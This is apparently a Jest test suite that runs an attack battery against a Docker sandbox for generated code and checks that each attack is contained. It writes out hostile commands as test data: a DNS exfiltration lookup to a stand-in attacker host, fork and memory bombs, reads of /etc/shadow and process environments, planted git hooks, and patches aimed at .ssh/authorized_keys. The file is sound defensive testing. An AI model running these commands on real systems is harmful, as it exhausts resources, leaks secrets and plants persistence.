import { randomInt, randomUUID } from "node:crypto";
import { chmod, mkdtemp, readdir, readFile, rm, writeFile, appendFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { jest } from "@jest/globals";
import { runGit } from "../../src/git/safe-git.js";
import { describeCommandResult } from "../../src/sandbox/describe-result.js";
import { DockerSandboxProvider } from "../../src/sandbox/docker-sandbox-provider.js";
import type { DockerSandbox } from "../../src/sandbox/docker-sandbox.js";
import { BASE_SANDBOX_ENV } from "../../src/sandbox/hardened-container.js";
import { PatchPolicyError, validatePatch, type PatchViolation } from "../../src/sandbox/patch-policy.js";
import type { CommandResult, SandboxLimits } from "../../src/sandbox/types.js";
import { tarFromFiles } from "../../src/sandbox/workspace-tar.js";
import { docker, eventually, hostProcessesMatching, jobContainers, makeFixtureRepo, SANDBOX_IMAGE, text, type FixtureRepo } from "./helpers.js";

/**
 * The attack battery. Every case is a "test" a generated change could contain, run through the real
 * provider against real Docker with small limits. Each asserts that the attack was contained, that the
 * result carries a clear reason, and that the host is unchanged: the canary secret in this process's
 * environment and the canary file never show up, no file or process with this run's marker exists on the
 * host, and only the job's current container (or none) carries the job label.
 */

jest.setTimeout(60_000);

const MiB = 1024 ** 2;
const limits: Partial<SandboxLimits> = {
  memoryBytes: 256 * MiB,
  cpus: 1,
  pids: 64,
  commandTimeoutMs: 5000,
  outputBytes: 64 * 1024,
  tmpBytes: 16 * MiB,
  fileSizeBytes: 8 * MiB,
  workspaceBytes: 32 * MiB,
  inodes: 4096,
  openFiles: 256,
};
const SHORT = 1500;

const marker = String(randomInt(100_000, 999_999)); // in attack file names and process arguments
const canarySecret = `canary-secret-${randomUUID()}`;
const canaryFileContent = `host canary file ${randomUUID()}\n`;
const jobId = `attacks-${marker}`;

let canaryDir: string;
let canaryFile: string;
let repo: FixtureRepo;
let provider: DockerSandboxProvider;
let sandbox: DockerSandbox;

beforeAll(async () => {
  process.env.CODEGEN_CANARY_SECRET = canarySecret;
  process.env.GITHUB_TOKEN_CANARY = canarySecret;
  canaryDir = await mkdtemp(join(tmpdir(), "codegen-canary-"));
  canaryFile = join(canaryDir, "secret.txt");
  await writeFile(canaryFile, canaryFileContent);
  repo = await makeFixtureRepo();
  // The repository carries a symlink to the host's canary file: git archive sends the link, never the bytes.
  const linkBlob = (await repo.git(["hash-object", "-w", "--stdin"], canaryFile)).toString().trim();
  await repo.git(["update-index", "--add", "--cacheinfo", `120000,${linkBlob},leak`]);
  await repo.git(["commit", "-q", "-m", "add a link to a host file"]);
  await repo.git(["reset", "-q", "--hard"]); // core.symlinks=false: the link is a plain file on the host
  provider = new DockerSandboxProvider({ limits });
  sandbox = await provider.startSandbox({ jobId, image: SANDBOX_IMAGE, workspace: await repo.archive() });
});

afterAll(async () => {
  await sandbox?.dispose();
  expect(await jobContainers(jobId)).toEqual([]);
  expect(hostProcessesMatching(marker)).toEqual([]);
  delete process.env.CODEGEN_CANARY_SECRET;
  delete process.env.GITHUB_TOKEN_CANARY;
  await repo?.cleanup();
  await rm(canaryDir, { recursive: true, force: true });
});

/** The host-side half of every case. */
async function expectHostUnchanged(): Promise<void> {
  expect(await readFile(canaryFile, "utf8")).toBe(canaryFileContent);
  expect(await readdir(canaryDir)).toEqual(["secret.txt"]);
  expect((await readdir(tmpdir())).filter((name) => name.includes(marker))).toEqual([]);
  expect(await eventually(() => hostProcessesMatching(marker).length === 0)).toBe(true);
  const live = sandbox.containerId;
  expect((await jobContainers(jobId)).map((c) => c.Id)).toEqual(live ? [live] : []);
}

function expectNoSecrets(result: CommandResult): void {
  const all = Buffer.concat([result.output, result.stdout, result.stderr]).toString("latin1");
  expect(all).not.toContain(canarySecret);
  expect(all).not.toContain(canaryFileContent.trim());
}

interface AttackCase {
  name: string;
  command: string;
  timeoutMs?: number;
  env?: Record<string, string>;
  /** The one-line reason the job reports. */
  reason: RegExp;
  contained: (result: CommandResult, out: string) => void;
}

const sandboxAttacks: AttackCase[] = [
  {
    name: "TCP egress to the internet, the Docker gateway and the metadata address",
    command: "node attacks/egress.js",
    reason: /^exit code 3$/,
    contained: (r, out) => {
      expect(out).not.toContain("CONNECTED");
      expect(out.match(/^blocked /gm)).toHaveLength(5);
      expect(out).toMatch(/ENETUNREACH/);
    },
  },
  {
    name: "DNS resolution and exfiltration by lookup",
    command: `getent hosts example.com; echo getent=$?; python3 -c "import socket; socket.getaddrinfo('x${marker}.attacker.example', 80)" 2>&1 | tail -1`,
    reason: /^exit code 0$/,
    contained: (_r, out) => {
      expect(out).toMatch(/getent=2/);
      expect(out).toMatch(/gaierror/);
      expect(out).not.toMatch(/\d+\.\d+\.\d+\.\d+/);
    },
  },
  {
    name: "cloud metadata service over HTTP",
    command: "node attacks/metadata.js",
    reason: /^exit code 3$/,
    contained: (_r, out) => {
      expect(out).not.toContain("METADATA-REACHED");
      expect(out).toMatch(/blocked (ENETUNREACH|timeout)/);
    },
  },
  {
    name: "network interfaces: only loopback exists",
    command: "echo $(ls /sys/class/net)",
    reason: /^exit code 0$/,
    contained: (_r, out) => expect(out).toBe("lo\n"),
  },
  {
    name: "Docker socket and daemon address",
    command: "ls -l /var/run/docker.sock /run/docker.sock 2>&1; env | grep -i docker; echo done",
    reason: /^exit code 0$/,
    contained: (_r, out) => {
      expect(out.match(/No such file or directory/g)).toHaveLength(2);
      expect(out).not.toMatch(/DOCKER_HOST/);
    },
  },
  {
    name: "fork bomb",
    command: `exec python3 attacks/fork-bomb.py ${marker}`,
    timeoutMs: 3000,
    reason: /^timed out after 3 s$/,
    contained: (r, out) => {
      expect(r.timedOut).toBe(true);
      const forks = Number(/forks=(\d+)/.exec(out)?.[1]);
      expect(forks).toBeLessThan(64);
      expect(out).toMatch(/Resource temporarily unavailable/);
    },
  },
  {
    name: "thread bomb",
    command: "python3 attacks/thread-bomb.py",
    reason: /^exit code 0$/,
    contained: (_r, out) => {
      const threads = Number(/threads=(\d+)/.exec(out)?.[1]);
      expect(threads).toBeLessThan(64);
      expect(out).toMatch(/can't start new thread/);
    },
  },
  {
    name: "memory bomb",
    command: "node attacks/memory-bomb.js",
    reason: /^killed: out of memory \(limit 256 MiB\)$/,
    contained: (r) => {
      expect(r.oomKilled).toBe(true);
      expect(r.exitCode).toBe(137);
    },
  },
  {
    name: "CPU spin past the time limit (output so far is kept)",
    command: "echo before-spin; while :; do :; done",
    timeoutMs: SHORT,
    reason: /^timed out after 1.5 s$/,
    contained: (r, out) => {
      expect(r.timedOut).toBe(true);
      expect(r.exitCode).toBeNull();
      expect(out).toBe("before-spin\n");
      expect(r.durationMs).toBeLessThan(SHORT + 3000);
    },
  },
  {
    name: "crypto-miner on every core is held to the CPU quota and then killed",
    command:
      "cat /sys/fs/cgroup/cpu/cpu.cfs_quota_us /sys/fs/cgroup/cpu/cpu.cfs_period_us 2>/dev/null || cat /sys/fs/cgroup/cpu.max; for i in 1 2 3 4; do (while :; do :; done) & done; wait",
    timeoutMs: SHORT,
    reason: /^timed out after 1.5 s$/,
    contained: (r, out) => {
      expect(r.timedOut).toBe(true);
      const numbers = out.match(/\d+/g)!.map(Number);
      expect(numbers[0] / numbers[1]).toBe(1); // quota / period = 1 CPU
    },
  },
  {
    name: "SIGTERM-trapping process",
    command: `trap '' TERM INT HUP; echo trapped-${marker}; while :; do :; done`,
    timeoutMs: SHORT,
    reason: /^timed out after 1.5 s$/,
    contained: (r, out) => {
      expect(r.timedOut).toBe(true);
      expect(out).toBe(`trapped-${marker}\n`);
    },
  },
  {
    name: "daemonised sleeper (setsid, nohup, output closed)",
    command: `setsid nohup sleep ${marker} >/dev/null 2>&1 & echo started`,
    reason: /^exit code 0; 1 background process was left running and killed$/,
    contained: (r, out) => {
      expect(out).toBe("started\n");
      expect(r.strayProcessesKilled).toBe(1);
    },
  },
  {
    name: "orphan that keeps the output open",
    command: `(sleep ${marker} &); echo parent-done`,
    timeoutMs: SHORT,
    reason: /^timed out after 1.5 s$/,
    contained: (r, out) => {
      expect(r.timedOut).toBe(true);
      expect(out).toBe("parent-done\n");
    },
  },
  {
    name: "process that closes its output and keeps running",
    command: `echo bye; exec >/dev/null 2>&1; sleep ${marker}`,
    timeoutMs: SHORT,
    reason: /^timed out after 1.5 s$/,
    contained: (r, out) => {
      expect(r.timedOut).toBe(true);
      expect(out).toBe("bye\n");
    },
  },
  {
    name: "stdout flood",
    command: "yes",
    reason: /^output truncated after 64 KiB$/,
    contained: (r) => {
      expect(r.truncated).toBe(true);
      expect(r.output.length).toBe(64 * 1024);
      expect(r.stdout.length).toBe(64 * 1024);
    },
  },
  {
    name: "stderr flood",
    command: "yes 'y' >&2",
    reason: /^output truncated after 64 KiB$/,
    contained: (r) => {
      expect(r.truncated).toBe(true);
      expect(r.stderr.length).toBe(64 * 1024);
      expect(r.stdout.length).toBe(0);
    },
  },
  {
    name: "binary and invalid UTF-8 output arrives byte for byte",
    command: "node attacks/binary-output.js",
    reason: /^exit code 0$/,
    contained: async (r) => {
      const { createHash } = await import("node:crypto");
      expect(r.stdout.length).toBe(256 * 64);
      expect(createHash("sha256").update(r.stdout).digest("hex")).toBe(text(r.stderr));
    },
  },
  {
    name: "flooding PID 1's stdout (the container log)",
    command: "timeout 1 sh -c 'yes > /proc/1/fd/1' 2>&1; echo rc=$?",
    reason: /^exit code 0$/,
    contained: (_r, out) => expect(out).toMatch(/rc=\d+/),
  },
  {
    name: "disk fill with one big file (file-size limit)",
    command: "dd if=/dev/zero of=/workspace/big bs=1M count=100 2>&1 | tail -1; echo rc=$?; stat -c size=%s /workspace/big; rm -f /workspace/big",
    reason: /^exit code 0$/,
    contained: (_r, out) => {
      const size = Number(/size=(\d+)/.exec(out)?.[1]);
      expect(size).toBeLessThanOrEqual(8 * MiB);
    },
  },
  {
    name: "disk fill with many files (workspace size)",
    command:
      "i=0; while dd if=/dev/zero of=/workspace/fill$i bs=1M count=7 2>/tmp/dd.err; do i=$((i+1)); done; grep -h 'No space' /tmp/dd.err; echo files=$i; rm -f /workspace/fill*",
    reason: /^exit code 0$/,
    contained: (_r, out) => {
      expect(out).toMatch(/No space left on device/);
      expect(Number(/files=(\d+)/.exec(out)?.[1])).toBeLessThanOrEqual(5);
    },
  },
  {
    name: "inode flood",
    command:
      "python3 -c \"import os\nos.mkdir('/workspace/inodes')\ni = 0\ntry:\n  while True:\n    open(f'/workspace/inodes/{i}', 'w').close(); i += 1\nexcept OSError as e:\n  print(f'inodes={i} {e.strerror}')\"; rm -rf /workspace/inodes",
    reason: /^exit code 0$/,
    contained: (_r, out) => {
      expect(Number(/inodes=(\d+)/.exec(out)?.[1])).toBeLessThan(4096);
      expect(out).toMatch(/No space left on device/);
    },
  },
  {
    name: "/tmp and /dev/shm fill",
    command:
      "for d in /tmp /dev/shm; do i=0; while dd if=/dev/zero of=$d/fill$i bs=1M count=7 2>/dev/null; do i=$((i+1)); done; echo $d=$i; rm -f $d/fill*; done",
    reason: /^exit code 0$/,
    contained: (_r, out) => {
      expect(Number(/\/tmp=(\d+)/.exec(out)?.[1])).toBeLessThanOrEqual(3);
      expect(Number(/\/dev\/shm=(\d+)/.exec(out)?.[1])).toBeLessThanOrEqual(10);
    },
  },
  {
    name: "write outside the workspace",
    command: "for p in /etc/x /usr/bin/x /x /var/tmp/x /opt/x /root/x /home/x; do touch $p 2>&1; done; echo done",
    reason: /^exit code 0$/,
    contained: (_r, out) => {
      const lines = out.trim().split("\n").slice(0, -1);
      expect(lines).toHaveLength(7);
      for (const line of lines) expect(line).toMatch(/Read-only file system|Permission denied/);
    },
  },
  {
    name: "write to and read from the host's paths",
    command: `mkdir -p HOSTDIR 2>&1; echo pwned > HOSTDIR/pwned-${marker} 2>&1; cat HOSTFILE 2>&1; echo pwned > /tmp/../../tmp/pwned-${marker}; ls /tmp`,
    reason: /^exit code 0$/,
    contained: (_r, out) => expect(out).toMatch(/Read-only file system|No such file or directory/),
  },
  {
    name: "host environment and /proc/*/environ",
    command: "env; for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f 2>/dev/null; done",
    reason: /^exit code 0$/,
    contained: (_r, out) => {
      expect(out).not.toMatch(/CODEGEN_CANARY_SECRET|GITHUB_TOKEN|ANTHROPIC|DOCKER_HOST/);
      const names = new Set(out.split("\n").filter((l) => /^[A-Za-z_][A-Za-z0-9_]*=/.test(l)).map((l) => l.slice(0, l.indexOf("="))));
      const allowed = new Set([...Object.keys(BASE_SANDBOX_ENV), "PATH", "HOSTNAME", "PWD", "SHLVL", "OLDPWD", "_", "NPM_CONFIG_CACHE", "HOST_PID", "MARKER"]);
      expect([...names].filter((n) => !allowed.has(n))).toEqual([]);
    },
  },
  {
    name: "a symlink in the repository to a host file",
    command: "readlink leak; cat leak 2>&1; echo rc=$?",
    reason: /^exit code 0$/,
    contained: (_r, out) => {
      expect(out).toContain("No such file or directory");
      expect(out).toMatch(/rc=1/);
    },
  },
  {
    name: "host files and mounts",
    command: "cat /etc/shadow 2>&1; ls /proc/1/root/ 2>&1 | head -3; grep -c ' /workspace ' /proc/self/mountinfo; grep -E 'docker.sock| /host' /proc/self/mountinfo; echo end",
    reason: /^exit code 0$/,
    contained: (_r, out) => {
      expect(out).toMatch(/shadow: Permission denied/);
      expect(out).not.toMatch(/docker\.sock/);
    },
  },
  {
    name: "setuid binaries, su and sudo",
    command: "find / -xdev -perm /6000 -type f 2>/dev/null; su -c id 2>&1; sudo id 2>&1; grep -E 'NoNewPrivs|CapEff|CapBnd|CapPrm' /proc/self/status; id -u",
    reason: /^exit code 0$/,
    contained: (_r, out) => {
      expect(out).toMatch(/su: not found/);
      expect(out).toMatch(/sudo: not found/);
      expect(out).toMatch(/NoNewPrivs:\s+1/);
      expect(out).toMatch(/CapEff:\s+0{16}/);
      expect(out).toMatch(/CapBnd:\s+0{16}/);
      expect(out.trim().split("\n").pop()).toBe("10001");
      expect(out).not.toMatch(/^\//m); // no setuid/setgid file listed
    },
  },
  {
    name: "mount, remount and new namespaces",
    command: "mkdir -p /tmp/m; mount -t tmpfs none /tmp/m 2>&1; mount -o remount,rw / 2>&1; unshare -Ur id 2>&1; unshare -m true 2>&1; echo done",
    reason: /^exit code 0$/,
    contained: (_r, out) => {
      expect(out.match(/must be superuser to use mount/g)).toHaveLength(2);
      expect(out.match(/unshare failed: Operation not permitted/g)).toHaveLength(2);
    },
  },
  {
    name: "ptrace of a host process and process snooping",
    command: "python3 attacks/ptrace-host.py",
    env: { HOST_PID: String(process.pid) },
    reason: /^exit code 0$/,
    contained: (_r, out) => {
      expect(out).toMatch(/attach host pid -> -1 No such process/);
      expect(Number(/visible pids=(\d+)/.exec(out)?.[1])).toBeLessThan(10);
      expect(out).not.toMatch(/jest|dockerd|containerd/);
    },
  },
  {
    name: "/dev access",
    command: "ls /dev; cat /dev/mem /dev/kmsg 2>&1; dmesg 2>&1 | head -1; ls /dev/sd* /dev/vd* /dev/nvme* 2>&1 | head -3",
    reason: /^exit code 0$/,
    contained: (_r, out) => {
      expect(out).toMatch(/\/dev\/mem: No such file/);
      expect(out).toMatch(/\/dev\/kmsg: No such file/);
      expect(out).toMatch(/dmesg: read kernel buffer failed: Operation not permitted/);
      expect(out).not.toMatch(/^(sd|vd|nvme)/m);
    },
  },
  {
    name: "capability abuse (chown, clock, devices, hostname)",
    command: "touch /workspace/own; chown 0 /workspace/own 2>&1; date -s 2000-01-01 2>&1 | head -1; mknod /tmp/sda b 8 0 2>&1; hostname evil 2>&1; rm -f /workspace/own",
    reason: /^exit code 0$/,
    contained: (_r, out) => {
      expect(out).toMatch(/chown: changing ownership .*Operation not permitted/);
      expect(out).toMatch(/date: cannot set date: Operation not permitted/);
      expect(out).toMatch(/mknod: \/tmp\/sda: Operation not permitted/);
      expect(out).toMatch(/hostname: you must be root/);
    },
  },
  {
    name: "kernel interfaces under /proc and /sys",
    command: "head -c 16 /proc/kcore 2>&1; cat /proc/keys 2>&1 | head -1; head -c 16 /proc/sched_debug 2>&1; ls /sys/firmware 2>&1; echo end",
    reason: /^exit code 0$/,
    contained: (_r, out) => {
      expect(out).not.toMatch(/ELF/);
      expect(out.trim().split("\n").pop()).toBe("end");
    },
  },
  {
    name: "postinstall script that tries the network during the run phase",
    command: "npm install --offline --no-audit --no-fund 2>&1; echo rc=$?",
    reason: /^exit code 0$/,
    contained: (_r, out) => {
      expect(out).toMatch(/network blocked: (ENETUNREACH|timeout)/);
      expect(out).not.toContain("NETWORK-REACHED");
      expect(out).not.toMatch(/rc=0$/m);
    },
  },
  {
    name: "planting hooks, symlinks and rewrites in the workspace changes nothing on the host",
    command:
      "rm -rf src && ln -s /etc src && echo evil > package.json && mkdir -p .git/hooks && printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && ls -la | head -3",
    reason: /^exit code 0$/,
    contained: () => undefined, // asserted on the host clone below
  },
];

describe("attack battery: untrusted code in the sandbox", () => {
  it.each(sandboxAttacks.map((attack) => [attack.name, attack] as const))("%s", async (_name, attack) => {
    const command = attack.command.replaceAll("HOSTDIR", canaryDir).replaceAll("HOSTFILE", canaryFile);
    const result = await sandbox.run(command, { timeoutMs: attack.timeoutMs, env: attack.env });
    const out = text(result.output);
    const reason = describeCommandResult(result);
    expect(reason).toMatch(attack.reason);
    await attack.contained(result, out);
    expectNoSecrets(result);
    await expectHostUnchanged();
  });

  it("the host clone is untouched by what the sandbox wrote", async () => {
    expect((await repo.git(["status", "--porcelain"])).toString()).toBe("");
    expect(await readFile(join(repo.dir, "package.json"), "utf8")).toContain('"name": "sandbox-fixture"');
  });

  it("killing PID 1 from inside ends the container; the next run starts a fresh one", async () => {
    const result = await sandbox.run("kill -TERM 1; sleep 5; echo survived", { timeoutMs: 8000 });
    expect(text(result.output)).not.toContain("survived");
    expect(result.containerExited).toBe(true);
    expect(describeCommandResult(result)).toMatch(/the sandbox container stopped during the command/);
    await expectHostUnchanged();
    const next = await sandbox.run("cat src/add.js");
    expect(text(next.output)).toContain("export function add");
  });

  it("nothing persists across a kill: /tmp, /dev/shm and workspace scratch are gone", async () => {
    const killed = await sandbox.run(
      `echo bean > /tmp/bean-${marker}; echo bean > /dev/shm/bean-${marker}; echo bean > bean-${marker}; sleep ${marker}`,
      { timeoutMs: SHORT },
    );
    expect(killed.timedOut).toBe(true);
    const next = await sandbox.run(`ls /tmp/bean-${marker} /dev/shm/bean-${marker} bean-${marker} 2>&1; echo rc=$?`);
    expect(text(next.output).match(/No such file or directory/g)).toHaveLength(3);
    await expectHostUnchanged();
  });

  it("a time bomb left behind is killed with its container before it fires", async () => {
    const armed = await sandbox.run(`(sleep 1; touch /workspace/bomb-${marker}) >/dev/null 2>&1 & echo armed`);
    expect(armed.strayProcessesKilled).toBeGreaterThanOrEqual(1);
    const later = await sandbox.run(`sleep 1.5; ls /workspace/bomb-${marker} 2>&1`);
    expect(text(later.output)).toMatch(/No such file or directory/);
    await expectHostUnchanged();
  });

  it("another job's sandbox is invisible: no shared files, processes or network", async () => {
    const otherJob = `attacks-other-${marker}`;
    const other = await provider.startSandbox({ jobId: otherJob, image: SANDBOX_IMAGE, workspace: await tarFromFiles([{ path: "x", content: "x" }]) });
    try {
      // The first sandbox is busy (a file written, a process running) while the other one looks around.
      const busy = sandbox.run(`echo mine > secret-${marker}.txt; exec python3 -c "import time; time.sleep(4)" ${marker}`);
      // It is running (seen from the host) while the other sandbox looks.
      expect(await eventually(() => hostProcessesMatching(marker).length > 0, 3500)).toBe(true);
      const peek = await other.run("ls /workspace; pgrep -fc 'time.slee[p]'");
      expect(text(peek.output)).not.toContain(`secret-${marker}`);
      expect(text(peek.output)).toBe("x\n0\n");
      expect((await busy).exitCode).toBe(0);
    } finally {
      await other.dispose();
    }
    expect(await jobContainers(otherJob)).toEqual([]);
    await expectHostUnchanged();
  });

  it("the container log driver writes nothing to the host", async () => {
    await sandbox.run("true");
    const info = await (await docker()).getContainer(sandbox.containerId!).inspect();
    expect(info.HostConfig.LogConfig?.Type).toBe("none");
    expect(info.LogPath).toBe("");
  });
});

describe("attack battery: host git and the repository's own hooks", () => {
  it("a repository with a malicious hook and fsmonitor config runs nothing on the host", async () => {
    const hostile = await makeFixtureRepo();
    try {
      const fired = join(canaryDir, `fired-${marker}`);
      for (const hook of ["pre-commit", "post-commit", "post-checkout", "pre-auto-gc", "reference-transaction", "post-index-change"]) {
        const path = join(hostile.dir, ".git", "hooks", hook);
        await writeFile(path, `#!/bin/sh\ntouch ${fired}-${hook}\n`);
        await chmod(path, 0o755);
      }
      await appendFile(join(hostile.dir, ".git", "config"), `[core]\n\tfsmonitor = touch ${fired}-fsmonitor\n\thooksPath = .git/hooks\n`);
      // What the pipeline does on the host: archive, edit, diff, stage, commit, status.
      const archive = await hostile.archive();
      await writeFile(join(hostile.dir, "src", "add.js"), "export const add = (a, b) => a + b;\n");
      await hostile.git(["diff", "--binary", "--full-index"]);
      await hostile.git(["add", "-A"]);
      await hostile.git(["commit", "-q", "-m", "edit"]);
      await hostile.git(["status", "--porcelain"]);
      expect((await readdir(canaryDir)).filter((n) => n.startsWith("fired-"))).toEqual([]);
      // The sandbox gets git's view of the tree: no .git directory goes in.
      const s = await provider.startSandbox({ jobId: `attacks-hooks-${marker}`, image: SANDBOX_IMAGE, workspace: archive });
      try {
        const listing = await s.run("ls -a");
        expect(text(listing.output)).not.toMatch(/^\.git$/m);
      } finally {
        await s.dispose();
      }
    } finally {
      await hostile.cleanup();
    }
    await expectHostUnchanged();
  });
});

describe("attack battery: what comes back is only a validated patch", () => {
  const realPatch = async (change: (dir: string, git: (a: string[], i?: string) => Promise<Buffer>) => Promise<void>): Promise<Buffer> => {
    const r = await makeFixtureRepo();
    try {
      await change(r.dir, r.git);
      return await r.git(["diff", "--cached", "--binary", "--full-index"]);
    } finally {
      await r.cleanup();
    }
  };
  const rejected = (patch: Buffer | string, rule: PatchViolation["rule"], policy = {}): void => {
    let error: unknown;
    try {
      validatePatch(patch, policy);
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(PatchPolicyError);
    expect((error as PatchPolicyError).violations.map((v) => v.rule)).toContain(rule);
    expect((error as Error).message).toMatch(/rejected/);
  };

  it.each<[string, (dir: string, git: (a: string[], i?: string) => Promise<Buffer>) => Promise<Buffer | string>, PatchViolation["rule"]]>([
    [
      "a symlink to a host file",
      async (_d, git) => {
        const blob = (await git(["hash-object", "-w", "--stdin"], canaryFile)).toString().trim();
        await git(["update-index", "--add", "--cacheinfo", `120000,${blob},src/config.js`]);
        return git(["diff", "--cached", "--binary", "--full-index"]);
      },
      "symlink",
    ],
    [
      "../ paths",
      async (dir, git) => {
        await writeFile(join(dir, "evil.txt"), "x\n");
        await git(["add", "evil.txt"]);
        return (await git(["diff", "--cached", "--binary", "--full-index"])).toString("latin1").replaceAll("evil.txt", "../../.ssh/authorized_keys");
      },
      "path",
    ],
    [
      "a file under .git/",
      async (dir, git) => {
        await writeFile(join(dir, "hook"), "#!/bin/sh\n");
        await git(["add", "hook"]);
        return (await git(["diff", "--cached", "--binary", "--full-index"])).toString("latin1").replaceAll("/hook", "/.git/hooks/post-checkout");
      },
      "git-dir",
    ],
    [
      "a workflow file",
      async (dir, git) => {
        await writeFile(join(dir, "ci.yml"), "on: push\n");
        await git(["add", "ci.yml"]);
        return (await git(["diff", "--cached", "--binary", "--full-index"])).toString("latin1").replaceAll("/ci.yml", "/.github/workflows/ci.yml");
      },
      "workflow",
    ],
    [
      "a huge file",
      async (dir, git) => {
        await writeFile(join(dir, "huge.bin"), Buffer.alloc(8 * MiB));
        await git(["add", "huge.bin"]);
        return git(["diff", "--cached", "--binary", "--full-index"]);
      },
      "file-size",
    ],
    [
      "file names with control characters",
      async (dir, git) => {
        await writeFile(join(dir, `a\u001b]0;pwned\u0007\n.txt`), "x");
        await git(["add", "-A"]);
        return git(["diff", "--cached", "--binary", "--full-index"]);
      },
      "path",
    ],
  ])("rejects a patch with %s", async (_name, make, rule) => {
    const r = await makeFixtureRepo();
    try {
      rejected(await make(r.dir, r.git), rule);
    } finally {
      await r.cleanup();
    }
    await expectHostUnchanged();
  });

  it("accepts an ordinary generated change", async () => {
    const patch = await realPatch(async (dir, git) => {
      await writeFile(join(dir, "src", "add.js"), "export function add(a, b) {\n  return b + a;\n}\n");
      await git(["add", "-A"]);
    });
    expect(validatePatch(patch).map((f) => f.path)).toEqual(["src/add.js"]);
  });
});

describe("attack battery: run git on host, never the sandbox's", () => {
  it("the workspace tar comes from git archive (runGit) and carries no host bytes", async () => {
    const tar = await runGit(["archive", "--format=tar", "HEAD"], { cwd: repo.dir });
    expect(tar.includes(Buffer.from(canaryFileContent.trim()))).toBe(false);
    expect(tar.includes(Buffer.from(canaryFile))).toBe(true); // the link text only
  });
});
